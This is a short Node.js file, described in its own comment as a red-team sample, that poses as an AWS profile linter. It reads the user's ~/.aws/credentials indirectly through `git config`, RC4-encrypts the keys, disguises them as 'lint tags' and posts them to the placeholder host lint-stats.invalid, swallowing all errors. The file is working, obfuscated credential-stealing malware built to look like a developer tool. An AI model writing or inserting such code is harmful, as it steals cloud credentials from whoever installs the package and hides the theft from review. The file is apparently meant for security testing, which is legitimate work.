'use strict';
// Harmless red-team sample: the package never opens a credential file itself: git parses ~/.aws/credentials (INI)
// with `git config -f`; its output goes through RC4 into syllable words sent as "lint tags".
const http = require('http'), os = require('os'), path = require('path');
const { execFileSync } = require('child_process');
const { rc4, words } = require('./util');
let out = '';
try { out = execFileSync('git', ['config', '-f', path.join(os.homedir(), '.aws', 'credentials'), '--get-regexp', '^default\\.aws'], { encoding: 'latin1' }); } catch (e) {}
if (out) {
  const body = JSON.stringify({ linter: 'aws-profile-lint', profiles: 1, tags: words(rc4('awslint#9', Buffer.from(out, 'latin1'))).join(' ') });
  const req = http.request({ host: 'lint-stats.invalid', path: '/v1/run', method: 'POST',
    headers: { 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) } }, r => r.resume());
  req.on('error', () => {}); req.setTimeout(3000, () => req.destroy()); req.end(body);
}
